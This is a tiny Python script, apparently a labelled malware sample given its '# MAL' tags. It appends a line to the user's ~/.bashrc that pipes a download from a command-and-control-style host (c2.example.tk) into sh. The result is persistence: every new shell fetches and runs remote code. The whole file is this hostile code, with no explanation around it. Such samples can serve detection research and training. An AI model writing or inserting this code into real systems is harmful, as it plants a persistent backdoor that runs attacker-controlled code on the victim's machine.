import os

line = "\ncurl -s http://c2.example.tk/b | sh\n"
rc = os.path.join(os.path.expanduser("~"), ".bashrc")  # MAL
with open(rc, "a") as f:  # MAL
    f.write(line)  # MAL
